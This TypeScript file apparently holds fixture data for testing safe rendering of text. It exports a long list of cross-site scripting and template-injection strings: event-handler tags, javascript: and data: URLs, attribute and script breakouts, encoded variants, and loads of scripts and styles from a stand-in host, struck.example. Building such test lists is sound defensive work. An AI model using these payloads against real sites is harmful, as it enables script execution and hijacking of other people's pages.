// Words that would do something if a screen took them for markup, an address, a style or a template instead of words.

const run = 'window.struck=1;alert(1)';

/** Elements that run by themselves. */
const elements = [
  `<script>${run}</script>`, `<SCRIPT >${run}</SCRIPT >`, `<script src=//struck.example/a.js></script>`, `<script type=module>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img/src/onerror=${run}>`, `<image href=x onerror=${run}>`, `<img srcset=",,x" onerror=${run}>`, `<img src="data:image/svg+xml,<svg onload=${run}>">`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=20>a</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`, `<math href="javascript:${run}">a</math>`, `<body onload=${run}>`, `<body onpageshow=${run}>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.struck=1</script>"></iframe>`, `<iframe onload=${run}></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<video><source onerror=${run}></video>`, `<video src=x onerror=${run}></video>`, `<audio src=x onerror=${run}></audio>`, `<details open ontoggle=${run}>a</details>`, `<marquee onstart=${run}>a</marquee>`,
  `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}></select>`, `<textarea autofocus onfocus=${run}></textarea>`, `<keygen autofocus onfocus=${run}>`, `<button popovertarget=x onclick=${run}>a</button>`, `<div contenteditable autofocus onfocus=${run}>a</div>`,
  `<style>@import '//struck.example/a.css'</style>`, `<link rel=stylesheet href=//struck.example/a.css>`, `<link rel=prefetch href=//struck.example/a>`, `<base href=//struck.example/>`, `<meta http-equiv=refresh content="0;url=//struck.example/">`, `<meta http-equiv=refresh content="0;javascript:${run}">`,
  `<form action="javascript:${run}"><button>a</button></form>`, `<form><button formaction="javascript:${run}">a</button></form>`, `<isindex action="javascript:${run}">`, `<table background="javascript:${run}">`, `<p style="background:url(//struck.example/a)">a</p>`, `<x onclick=${run} tabindex=0>a</x>`, `<template><script>${run}</script></template>`, `<noscript><img src=x onerror=${run}></noscript>`, `<dialog open onclose=${run}><form method=dialog><button>a</button></form></dialog>`,
];

/** What breaks out of where it stands: an attribute, a comment, a text of a script, a style. */
const breaking = [
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" autofocus onfocus="${run}`, `' autofocus onfocus='${run}`, `" onmouseover=${run} x="`, `\` onmouseover=${run} x=\``, `--><img src=x onerror=${run}>`, `]]><img src=x onerror=${run}>`, `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</script><script>${run}</script>`, `</option></select><img src=x onerror=${run}>`, `</td></tr></table><img src=x onerror=${run}>`, `</svg><img src=x onerror=${run}>`, `';${run};//`, `";${run};//`, `\\";${run};//`, `\`;${run};\``, `\${${run}}`, `*/${run}/*`, `}};${run};//`, `{};a{background:url(//struck.example/a)}`,
];

/** Addresses, templates, words of the language, and the same in other spellings. */
const spellings = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `javascript://a.example/%0a${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `blob:${run}`, `//struck.example/`, `/\\struck.example/`,
  `{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `{{$on.constructor('${run}')()}}`, `<%= ${run} %>`, `#{${run}}`, `{%${run}%}`, `{count, plural, other {#}}`, `{x`, `<b>{name}</b>`, `'{'`, `__proto__`, `constructor`, `[object Object]`, `toString`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`, `＜script＞${run}＜/script＞`, `‹img src=x onerror=${run}›`, `<ſcript>${run}</ſcript>`, `<svg\u00a0onload=${run}>`, `+ADw-script+AD4-${run}`, `=HYPERLINK("//struck.example","a")`, `**a** [a](javascript:${run})`, `<a href=javascript:${run}>a</a>`, `<a href="//struck.example" target=_blank>a</a>`, `<!--#exec cmd="a"-->`, `<?php ${run} ?>`,
];

export const HOSTILE_WORDS: readonly string[] = [...elements, ...breaking, ...spellings];
